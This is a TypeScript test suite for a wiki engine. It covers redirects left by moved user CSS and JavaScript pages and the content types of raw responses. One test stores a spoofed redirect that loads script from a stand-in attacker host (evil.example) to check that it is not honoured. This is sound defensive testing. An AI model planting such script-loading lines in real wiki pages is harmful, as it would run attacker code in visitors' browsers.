import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import Fastify, { type FastifyInstance } from 'fastify'
import { issueToken } from '#accounts/tokens.ts'
import { onEachEngine } from '#store/testing.ts'
import { type EditingWiki, type Editor, editingWiki } from '../editing/testing.ts'
import { wikiPart } from '../part.ts'

onEachEngine('moved scripts and style sheets', open => {
  let site: EditingWiki
  let ann: Editor
  let app: FastifyInstance
  before(async () => {
    site = await editingWiki(await open(), { siteUrl: 'http://127.0.0.1' })
    ann = await site.person('Ann')
    app = Fastify()
    await app.register(async scope => wikiPart.routes!(scope, site.services))
    await ann.edit('User:Ann/old.css', 'a { color: red }')
    await ann.edit('User:Ann/old.js', 'alert(1)')
    await ann.edit('User:Ann/old.json', '{}')
    await ann.edit('Prose', 'text')
    for (const kind of ['css', 'js', 'json'])
      await ann.post({
        action: 'move',
        from: `User:Ann/old.${kind}`,
        to: `User:Ann/new & näw.${kind}`,
        token: issueToken(ann.caller, 'csrf', site.clock),
      })
  })
  const facts = async (title: string) => {
    const request = { action: 'query', titles: title, prop: 'info|revisions', rvprop: 'tags|content', rvslots: 'main' }
    const { query } = await ann.ask(request)
    return query.pages[0]
  }

  test('leave a redirect that works', async () => {
    for (const kind of ['css', 'js']) {
      const page = await facts(`User:Ann/old.${kind}`)
      assert.equal(page.redirect, true, kind)
      assert.deepEqual(page.revisions[0].tags, ['mw-new-redirect'])
      assert.match(page.revisions[0].slots.main.content, /^\/\* #REDIRECT \*\/(@import url\(|mw\.loader\.load\(")http/)
      const { query } = await ann.ask({ action: 'query', titles: `User:Ann/old.${kind}`, redirects: 1 })
      assert.deepEqual(query.redirects, [{ from: `User:Ann/old.${kind}`, to: `User:Ann/new & näw.${kind}` }])
    }
    assert.equal((await facts('User:Ann/old.json')).missing, true)
    const { query } = await ann.ask({ action: 'query', list: 'allredirects', arnamespace: 2 })
    assert.equal(query.allredirects.length, 2)
  })

  test('stop redirecting once the page is edited', async () => {
    const { content } = (await facts('User:Ann/old.css')).revisions[0].slots.main
    await ann.edit('User:Ann/old.css', `${content}\nb {}`)
    assert.equal((await facts('User:Ann/old.css')).redirect, undefined)
    await ann.edit('User:Ann/old.css', content)
    const again = await facts('User:Ann/old.css')
    assert.deepEqual([again.redirect, again.revisions[0].tags.includes('mw-new-redirect')], [true, true])
    await ann.edit(
      'User:Ann/other.js',
      '/* #REDIRECT */mw.loader.load("http://evil.example/?title=A\\u0026action=raw");',
    )
    assert.equal((await facts('User:Ann/other.js')).redirect, undefined)
  })

  test('are served with the requested content type', async () => {
    const raw = async (title: string, ctype: string, headers: Record<string, string> = {}) => {
      const query = new URLSearchParams({ title, action: 'raw', ...(ctype && { ctype }) })
      const answer = await app.inject({ url: `/index.php?${query}`, headers })
      return answer.statusCode === 200 ? answer.headers['content-type'] : answer.statusCode
    }
    const [css, js] = ['User:Ann/new & näw.css', 'User:Ann/new & näw.js']
    assert.equal(await raw(css, 'text/css'), 'text/css; charset=UTF-8')
    assert.equal(await raw(js, 'text/javascript'), 'text/javascript; charset=UTF-8')
    assert.equal(await raw('Prose', 'application/json'), 'application/json; charset=UTF-8')
    assert.equal(await raw(css, 'text/x-wiki'), 'text/x-wiki; charset=UTF-8')
    for (const ctype of ['', 'text/html', 'image/svg+xml'])
      assert.equal(await raw(js, ctype), 'text/plain; charset=UTF-8')
    for (const title of [css, 'Prose', 'User:Ann/new & näw.json'])
      assert.equal(await raw(title, 'text/javascript'), 403, title)
    const fetched = (site: string, dest: string) =>
      raw(js, 'text/javascript', { 'sec-fetch-site': site, 'sec-fetch-dest': dest })
    assert.equal(await fetched('cross-site', 'script'), 'text/javascript; charset=UTF-8')
    for (const dest of ['script', 'worker', 'serviceworker'])
      assert.equal(await fetched('same-origin', dest), 403, dest)
  })
})
